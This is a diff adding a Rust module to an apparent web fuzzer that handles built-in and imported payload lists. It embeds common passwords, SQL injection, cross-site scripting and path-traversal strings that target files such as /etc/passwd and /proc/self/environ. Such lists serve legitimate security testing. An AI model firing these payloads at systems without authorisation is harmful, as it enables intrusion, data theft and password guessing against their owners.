@@ -0,0 +1,123 @@
+// Payload lists for the fuzzer: built-in wordlists, and custom ones imported into the
+// config dir's `payloads/` as one `NAME.txt` each
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use crate::{config, miner};
+
+const PASSWORDS: &[&str] = &[
+    "123456", "password", "123456789", "12345678", "12345", "qwerty", "abc123", "password1",
+    "1234567", "111111", "123123", "admin", "letmein", "welcome", "monkey", "dragon", "iloveyou",
+    "1234567890", "000000", "sunshine", "princess", "football", "baseball", "master", "shadow",
+    "trustno1", "superman", "qwerty123", "passw0rd", "Password1", "Welcome1", "admin123", "root",
+    "toor", "changeme", "secret", "test", "guest", "default", "P@ssw0rd",
+];
+
+const SQLI: &[&str] = &[
+    "'", "\"", "`", "')", "\")", "' --", "' #", "\" --", "' OR '1'='1", "' OR '1'='1' --",
+    "\" OR \"1\"=\"1", "' OR 1=1 --", "1 OR 1=1", "1' AND '1'='2", "1 AND 1=2", "' UNION SELECT NULL --",
+    "' UNION SELECT NULL,NULL --", "' UNION SELECT NULL,NULL,NULL --", "1; SELECT 1 --", "' AND SLEEP(5) --",
+    "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5' --", "' || pg_sleep(5) --", "' AND 1=CONVERT(int,@@version) --",
+    "' AND extractvalue(1,concat(0x7e,version())) --", "1 ORDER BY 1", "1 ORDER BY 100", "admin' --",
+    "') OR ('1'='1", "%27", "%22", "\\'",
+];
+
+const XSS: &[&str] = &[
+    "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
+    "javascript:alert(1)", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)",
+    "</script><script>alert(1)</script>", "';alert(1)//", "\";alert(1)//", "${alert(1)}", "{{7*7}}",
+    "<details open ontoggle=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<ScRiPt>alert(1)</sCrIpT>",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "<math><mtext><img src=x onerror=alert(1)>",
+];
+
+const TRAVERSAL: &[&str] = &[
+    "../etc/passwd", "../../etc/passwd", "../../../etc/passwd", "../../../../etc/passwd",
+    "../../../../../../etc/passwd", "../../../../../../../../etc/passwd", "/etc/passwd",
+    "....//....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252f..%252fetc%252fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "..\\..\\..\\windows\\win.ini",
+    "..%5c..%5c..%5cwindows%5cwin.ini", "C:\\windows\\win.ini", "/etc/passwd%00", "../../../etc/passwd%00.png",
+    "..;/..;/..;/etc/passwd", "file:///etc/passwd", "/proc/self/environ", "../../../proc/self/cmdline",
+    "WEB-INF/web.xml", "../WEB-INF/web.xml", "../../../../var/log/nginx/access.log",
+];
+
+/// Built-in lists by name, with what each is for
+const BUILTIN: [(&str, &str, &[&str]); 5] = [
+    ("passwords", "common passwords", PASSWORDS),
+    ("sqli", "SQL injection probes", SQLI),
+    ("xss", "cross-site scripting probes", XSS),
+    ("traversal", "path traversal", TRAVERSAL),
+    ("params", "parameter names", miner::WORDLIST),
+];
+
+pub struct List {
+    pub name: String,
+    /// What a built-in list is for, or the file a custom one lives in
+    pub about: String,
+    pub builtin: bool,
+    pub items: Vec<String>,
+}
+
+fn dir() -> PathBuf {
+    config::config_dir().join("payloads")
+}
+
+/// One payload per non-empty line
+fn read(path: &Path) -> Result<Vec<String>, String> {
+    let text = fs::read_to_string(path).map_err(|e| format!("Can't read {}: {}", path.display(), e))?;
+    Ok(text.lines().map(|l| l.trim_end_matches('\r')).filter(|l| !l.is_empty()).map(str::to_string).collect())
+}
+
+/// Built-in lists, then imported ones A to Z
+pub fn all() -> Vec<List> {
+    let mut lists: Vec<List> = BUILTIN.iter().map(|(name, about, items)| List {
+        name: name.to_string(),
+        about: about.to_string(),
+        builtin: true,
+        items: items.iter().map(|i| i.to_string()).collect(),
+    }).collect();
+    let mut custom: Vec<List> = fs::read_dir(dir()).into_iter().flatten().flatten()
+        .map(|e| e.path())
+        .filter(|p| p.extension().is_some_and(|e| e == "txt"))
+        .filter_map(|path| Some(List {
+            name: path.file_stem()?.to_string_lossy().to_string(),
+            about: path.display().to_string(),
+            builtin: false,
+            items: read(&path).ok()?,
+        }))
+        .collect();
+    custom.sort_by(|a, b| a.name.cmp(&b.name));
+    lists.extend(custom);
+    lists
+}
+
+/// The payloads of the list called `name`
+pub fn named(name: &str) -> Option<Vec<String>> {
+    all().into_iter().find(|l| l.name == name).map(|l| l.items)
+}
+
+/// Copy a file into the payload lists, as `name` or the file's own name; returns the list's name
+pub fn import(file: &str, name: Option<&str>) -> Result<String, String> {
+    let path = Path::new(file);
+    let name = name.map(str::to_string).or_else(|| path.file_stem().map(|s| s.to_string_lossy().to_string())).unwrap_or_default();
+    if name.is_empty() || !name.chars().all(|c| c.is_alphanumeric() || "-_.".contains(c)) {
+        return Err(format!("`{}` can't name a list: use letters, digits, - _ and .", name));
+    }
+    if BUILTIN.iter().any(|(b, _, _)| *b == name) {
+        return Err(format!("`{}` is a built-in list; import under another name", name));
+    }
+    let items = read(path)?;
+    if items.is_empty() {
+        return Err(format!("No payloads in {}", file));
+    }
+    let _ = fs::create_dir_all(dir());
+    fs::write(dir().join(format!("{}.txt", name)), items.join("\n") + "\n").map_err(|e| format!("Import failed: {}", e))?;
+    Ok(name)
+}
+
+/// Delete an imported list
+pub fn remove(name: &str) -> Result<(), String> {
+    fs::remove_file(dir().join(format!("{}.txt", name))).map_err(|e| format!("Can't delete {}: {}", name, e))
+}